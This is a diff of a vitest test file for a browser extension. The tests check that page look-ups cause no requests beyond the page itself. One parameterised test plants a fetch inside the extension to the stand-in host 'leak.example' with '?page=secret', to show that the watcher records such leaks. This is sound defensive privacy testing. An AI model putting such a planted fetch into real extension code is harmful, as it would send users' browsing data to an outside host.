@@ -1,45 +1,52 @@
-/** Nothing about what you read leaves the device: every request of the whole browser is watched. */
+/** No look-up makes a request: every request of the whole browser is recorded. */
 import { beforeAll, expect, test } from 'vitest'
 import { until } from '../harness/until.ts'
 import { expectBadge, requestsSince } from '../support/browser.ts'
 import { readPopup } from '../support/popup-view.ts'
 import { OTHERS, PAGE } from '../support/sample.ts'
-import { UNKNOWN, world } from './world.ts'
+import { UNKNOWN, useSample } from './setup.ts'
+
+const world = useSample()
 
 beforeAll(() => world.browser.grant(['https://*.elmoudjaweb.com/*', 'http://*.elmoudjaweb.com/*']))
 
-/** What was asked for besides the page itself. */
-const strangers = (from: number, page: string) =>
+/** Requests for anything but the page itself. */
+const others = (from: number, page: string) =>
   requestsSince(world.site, from).filter(({ url }) => url !== page)
 
-test('from page load to list nothing but the page is requested', async () => {
+test('from page load to the list, only the page is requested', async () => {
   const from = world.site.seen.length
   const page = await world.browser.open(PAGE.webUrl)
   await expectBadge(page, String(OTHERS.length))
   const popup = await page.pressShortcut()
   expect((await readPopup(popup)).state).toBe('story')
   expect(requestsSince(world.site, from).some(({ url }) => url === PAGE.webUrl)).toBe(true)
-  expect(strangers(from, PAGE.webUrl)).toEqual([])
+  expect(others(from, PAGE.webUrl)).toEqual([])
   await popup.close()
   await page.close()
 })
 
-test('on a page in no index nothing is requested either', async () => {
+test('a page in no index causes no request either', async () => {
   const from = world.site.seen.length
   const page = await world.browser.open(UNKNOWN.here)
   const popup = await page.pressShortcut()
   expect((await readPopup(popup)).state).not.toBe('story')
-  expect(strangers(from, UNKNOWN.here)).toEqual([])
+  expect(others(from, UNKNOWN.here)).toEqual([])
   await popup.close()
   await page.close()
 })
 
 test.each(['https://leak.example/', 'http://leak.example/', 'https://leak.example:8443/'])(
-  'the watcher sees a fetch planted in the extension to %s',
+  'a fetch planted in the extension to %s is recorded',
   async (leak) => {
     const from = world.site.seen.length
     await world.browser.extension.evaluate(
-      `fetch('${leak}?page=secret', { mode: 'no-cors' }).then(() => 1, () => 1)`,
+      (url) =>
+        fetch(url, { mode: 'no-cors' }).then(
+          () => {},
+          () => {},
+        ),
+      `${leak}?page=secret`,
     )
     await until('the planted request', () =>
       requestsSince(world.site, from).some(({ url }) => url.includes('leak.example')),
